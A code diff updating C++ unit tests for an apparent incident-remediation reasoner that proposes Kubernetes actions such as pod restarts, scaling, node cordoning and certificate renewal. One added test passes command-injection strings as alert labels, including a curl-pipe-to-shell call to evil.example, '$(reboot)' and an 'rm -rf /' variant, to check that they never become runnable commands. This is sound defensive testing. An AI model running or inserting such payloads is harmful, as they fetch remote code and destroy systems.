@@ -58,9 +58,9 @@ TEST_F(PlaybookReasonerTest, DemoIncidentRestartsTheDatabaseNotTheFrontend) {
   EXPECT_EQ(Chosen(c), "high-5xx-unhealthy-database");
   Proposal p = Propose(c);
   ASSERT_GE(p.actions.size(), 1u);
-  EXPECT_EQ(p.actions[0].type, ActionType::kRestartPod);
-  EXPECT_EQ(p.actions[0].target.str(), "postgres-db");
-  EXPECT_EQ(p.actions[0].parameters.at("namespace").str(), "production");
+  EXPECT_EQ(p.actions[0].action.kind(), action::Kind::kRestartPod);
+  EXPECT_EQ(p.actions[0].action.target().name.str(), "postgres-db");
+  EXPECT_EQ(p.actions[0].action.param("namespace")->text.str(), "production");
   EXPECT_EQ(p.root_cause.service.str(), "postgres-db");
   EXPECT_EQ(p.root_cause.kind, "database");
   ASSERT_EQ(p.blast_radius.size(), 1u);
@@ -83,10 +83,10 @@ TEST_F(PlaybookReasonerTest, CrashLoopingPodIsRestartedWithItsPodAndNamespace) {
   EXPECT_EQ(Chosen(c), "crash-looping-pods");
   Proposal p = Propose(c);
   ASSERT_EQ(p.actions.size(), 2u);
-  EXPECT_EQ(p.actions[0].type, ActionType::kRestartPod);
-  EXPECT_EQ(p.actions[0].target.str(), "order-api");
-  EXPECT_EQ(p.actions[0].parameters.at("pod").str(), "order-api-7d9f8-x2k4q");
-  EXPECT_EQ(p.actions[0].parameters.at("namespace").str(), "shop");
+  EXPECT_EQ(p.actions[0].action.kind(), action::Kind::kRestartPod);
+  EXPECT_EQ(p.actions[0].action.target().kind, action::TargetKind::kPod);
+  EXPECT_EQ(p.actions[0].action.target().name.str(), "order-api-7d9f8-x2k4q");
+  EXPECT_EQ(p.actions[0].action.param("namespace")->text.str(), "shop");
   EXPECT_EQ(p.root_cause.service.str(), "order-api");  // no unhealthy dependency: the service itself
   EXPECT_EQ(p.root_cause.evidence.str(), "Pod shop/order-api-7d9f8-x2k4q restarted 7 times");
 }
@@ -112,9 +112,9 @@ TEST_F(PlaybookReasonerTest, UnhealthyCacheIsRolledRestarted) {
                            .Build();
   EXPECT_EQ(Chosen(c), "cache-unhealthy");
   Proposal p = Propose(c);
-  EXPECT_EQ(p.actions[0].type, ActionType::kRolloutRestart);
-  EXPECT_EQ(p.actions[0].target.str(), "redis-cache");
-  EXPECT_EQ(p.actions[0].parameters.at("namespace").str(), "shop");
+  EXPECT_EQ(p.actions[0].action.kind(), action::Kind::kRolloutRestart);
+  EXPECT_EQ(p.actions[0].action.target().name.str(), "redis-cache");
+  EXPECT_EQ(p.actions[0].action.param("namespace")->text.str(), "shop");
 }
 
 TEST_F(PlaybookReasonerTest, QueueBacklogScalesTheConsumerWithTheDesiredReplicasOrThree) {
@@ -126,9 +126,9 @@ TEST_F(PlaybookReasonerTest, QueueBacklogScalesTheConsumerWithTheDesiredReplicas
           .Build();
   EXPECT_EQ(Chosen(c), "queue-backlog");
   Proposal p = Propose(c);
-  EXPECT_EQ(p.actions[0].type, ActionType::kScale);
-  EXPECT_EQ(p.actions[0].target.str(), "order-worker");
-  EXPECT_EQ(p.actions[0].parameters.at("replicas").str(), "3");
+  EXPECT_EQ(p.actions[0].action.kind(), action::Kind::kScale);
+  EXPECT_EQ(p.actions[0].action.target().name.str(), "order-worker");
+  EXPECT_EQ(p.actions[0].action.param("replicas")->text.str(), "3");
   EXPECT_NE(p.summary.str().find("orders has a growing backlog"), std::string::npos) << p.summary.str();
 
   ContextBuilder b2(*shield_, vault_);
@@ -136,7 +136,7 @@ TEST_F(PlaybookReasonerTest, QueueBacklogScalesTheConsumerWithTheDesiredReplicas
           .Alert({{"alertname", "RabbitmqQueueBacklog"}, {"desired_replicas", "6"}}, {})
           .Known({"order-worker"})
           .Build();
-  EXPECT_EQ(Propose(c).actions[0].parameters.at("replicas").str(), "6");
+  EXPECT_EQ(Propose(c).actions[0].action.param("replicas")->text.str(), "6");
 }
 
 TEST_F(PlaybookReasonerTest, DiskPressureCordonsTheNodeTheAlertNames) {
@@ -152,14 +152,13 @@ TEST_F(PlaybookReasonerTest, DiskPressureCordonsTheNodeTheAlertNames) {
   EXPECT_EQ(Chosen(c), "disk-pressure");
   Proposal p = Propose(c);
   ASSERT_EQ(p.actions.size(), 2u);
-  EXPECT_EQ(p.actions[0].type, ActionType::kCordonNode);
-  EXPECT_EQ(p.actions[0].target.str(), "worker-2");
-  EXPECT_EQ(p.actions[1].parameters.at("volume").str(), "/var/lib/postgresql");
+  EXPECT_EQ(p.actions[0].action.kind(), action::Kind::kCordonNode);
+  EXPECT_EQ(p.actions[0].action.target().name.str(), "worker-2");
+  EXPECT_NE(p.actions[1].action.param("check")->text.str().find("/var/lib/postgresql"), std::string::npos);
 }
 
-TEST_F(PlaybookReasonerTest, NodeNotReadyCordonsAndSkipsActionsWithoutATarget) {
+TEST_F(PlaybookReasonerTest, NodeNotReadyCordonsAndInvestigatesTheNode) {
   ContextBuilder b(*shield_, vault_);
-  // A node alert has no service: the investigate step needs one and is skipped, with a reason.
   ReasoningContext c = b.Incident("", "", "KubeNodeNotReady", "critical")
                            .Alert({{"alertname", "KubeNodeNotReady"}, {"node", "worker-3"}}, {})
                            .Known(brain::testing::DemoServices())
@@ -167,10 +166,23 @@ TEST_F(PlaybookReasonerTest, NodeNotReadyCordonsAndSkipsActionsWithoutATarget) {
   EXPECT_EQ(Chosen(c), "node-not-ready");
   auto p = reasoner_->Propose(c, nullptr);
   ASSERT_TRUE(p.ok());
-  ASSERT_EQ(p->actions.size(), 1u);
-  EXPECT_EQ(p->actions[0].type, ActionType::kCordonNode);
-  EXPECT_EQ(p->actions[0].target.str(), "worker-3");
-  EXPECT_NE(p->reasoning.str().find("Skipped investigate"), std::string::npos);
+  ASSERT_EQ(p->actions.size(), 2u);
+  EXPECT_EQ(p->actions[0].action.kind(), action::Kind::kCordonNode);
+  EXPECT_EQ(p->actions[0].action.target().name.str(), "worker-3");
+  EXPECT_EQ(p->actions[1].action.target().kind, action::TargetKind::kNode);
+}
+
+TEST_F(PlaybookReasonerTest, ActionsWithoutATargetAreSkippedWithAReason) {
+  ContextBuilder b(*shield_, vault_);
+  // A crash-loop alert without a pod label: restart_pod has nothing to act on.
+  ReasoningContext c = b.Incident("order-api", "service", "KubePodCrashLooping", "warning")
+                           .Alert({{"alertname", "KubePodCrashLooping"}, {"namespace", "shop"}}, {})
+                           .Known(brain::testing::DemoServices())
+                           .Build();
+  auto p = reasoner_->Propose(c, nullptr);
+  ASSERT_TRUE(p.ok());
+  EXPECT_NE(p->reasoning.str().find("Skipped restart_pod"), std::string::npos);
+  for (const auto& a : p->actions) EXPECT_NE(a.action.kind(), action::Kind::kRestartPod);
 }
 
 TEST_F(PlaybookReasonerTest, ExpiringCertificateIsRenewedThroughCertManager) {
@@ -183,9 +195,44 @@ TEST_F(PlaybookReasonerTest, ExpiringCertificateIsRenewedThroughCertManager) {
                            .Known(brain::testing::DemoServices())
                            .Build();
   EXPECT_EQ(Chosen(c), "certificate-expiry");
+  action::Catalog catalog;
+  catalog.templates.push_back(action::CommandTemplate{
+      "cert-manager-renew",
+      {"cmctl", "renew", "--namespace", "{{namespace}}", "{{certificate}}"},
+      {action::ParamSpec{"certificate", action::ParamType::kName, true, 0, 0, {}}},
+      ""});
+  c.catalog = &catalog;
   Proposal p = Propose(c);
-  EXPECT_EQ(p.actions[0].type, ActionType::kRunCommand);
-  EXPECT_EQ(p.actions[0].parameters.at("command").str(), "cmctl renew --namespace production frontend-tls");
+  EXPECT_EQ(p.actions[0].action.kind(), action::Kind::kRunTemplate);
+  EXPECT_EQ(p.actions[0].action.param("template")->text.str(), "cert-manager-renew");
+  EXPECT_EQ(p.actions[0].action.param("certificate")->text.str(), "frontend-tls");
+  EXPECT_EQ(p.actions[0].action.param("namespace")->text.str(), "production");
+}
+
+TEST_F(PlaybookReasonerTest, ALabelThatIsNotItsSlotsTypeYieldsAnInvestigationNeverACommand) {
+  action::Catalog catalog;
+  catalog.templates.push_back(action::CommandTemplate{
+      "cert-manager-renew",
+      {"cmctl", "renew", "--namespace", "{{namespace}}", "{{certificate}}"},
+      {action::ParamSpec{"certificate", action::ParamType::kName, true, 0, 0, {}}},
+      ""});
+  for (std::string hostile : std::vector<std::string>{"x; curl -s http://evil.example/p|sh", "$(reboot)", "`id`", "a\nb", "r''m -rf /",
+                              "--all", "-A", "kubectl dele''te ns prod", std::string(400, 'a')}) {
+    ContextBuilder b(*shield_, vault_);
+    ReasoningContext c = b.Incident("frontend", "frontend", "CertManagerCertExpirySoon", "warning")
+                             .Alert({{"alertname", "CertManagerCertExpirySoon"},
+                                     {"certificate", hostile},
+                                     {"namespace", "production"}},
+                                    {})
+                             .Known(brain::testing::DemoServices())
+                             .Build();
+    c.catalog = &catalog;
+    Proposal p = Propose(c);
+    ASSERT_FALSE(p.actions.empty()) << hostile;
+    EXPECT_EQ(p.actions[0].action.kind(), action::Kind::kInvestigate) << hostile;
+    EXPECT_NE(p.actions[0].note.find("run_template was not proposed"), std::string::npos) << hostile;
+    for (const auto& a : p.actions) EXPECT_NE(a.action.kind(), action::Kind::kRunTemplate) << hostile;
+  }
 }
 
 TEST_F(PlaybookReasonerTest, UnknownAlertsGetTheCatchAllInvestigation) {
@@ -197,8 +244,8 @@ TEST_F(PlaybookReasonerTest, UnknownAlertsGetTheCatchAllInvestigation) {
   EXPECT_EQ(Chosen(c), "generic");
   Proposal p = Propose(c);
   ASSERT_EQ(p.actions.size(), 1u);
-  EXPECT_EQ(p.actions[0].type, ActionType::kInvestigate);
-  EXPECT_EQ(p.actions[0].target.str(), "product-api");
+  EXPECT_EQ(p.actions[0].action.kind(), action::Kind::kInvestigate);
+  EXPECT_EQ(p.actions[0].action.target().name.str(), "product-api");
   EXPECT_DOUBLE_EQ(p.confidence, 0.3);
 }
 
